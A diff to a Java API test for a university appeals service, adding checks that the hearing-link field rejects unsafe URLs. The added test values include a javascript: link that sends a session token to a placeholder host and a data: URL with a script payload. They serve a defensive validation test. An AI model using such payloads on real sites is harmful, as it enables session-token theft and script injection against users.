@@ -106,7 +106,15 @@ class AppealApiTest {
         c.member().api().body(hearing).post("/api/appeals/" + id + "/hearing").then().statusCode(403);
         c.deputy().api().body(hearing).post("/api/appeals/" + id + "/hearing").then().statusCode(403)
                 .body("detail", containsString("deputy only while the chair is absent"));
-        c.chair().api().body(hearing).post("/api/appeals/" + id + "/hearing").then().statusCode(200).body("state", equalTo("HEARING_SET"));
+        // a link the student will open: only a safe https address (a javascript: link would run with their token)
+        for (String bad : java.util.List.of("javascript:fetch('//x/'+sessionStorage.getItem('adal.token'))", "http://meet.example/appeal",
+                "data:text/html,<script>alert(1)</script>")) {
+            c.chair().api().body(Map.of("at", time.now().plusSeconds(600).toString(), "link", bad)).post("/api/appeals/" + id + "/hearing")
+                    .then().statusCode(400).body("code", equalTo("APPEAL_HEARING_LINK_INVALID")).body("field", equalTo("link"))
+                    .body("detail", containsString("https://"));
+        }
+        c.chair().api().body(hearing).post("/api/appeals/" + id + "/hearing").then().statusCode(200).body("state", equalTo("HEARING_SET"))
+                .body("hearingLink", equalTo("https://meet.example/appeal"));
         // only the dean's office, the admin or the chair mark the chair absent
         c.member().api().body(Map.of("absent", true)).post("/api/appeal-commissions/" + c.id() + "/chair-absence").then().statusCode(403);
         Api.as("dean").body(Map.of("absent", true, "note", "on sick leave")).post("/api/appeal-commissions/" + c.id() + "/chair-absence")
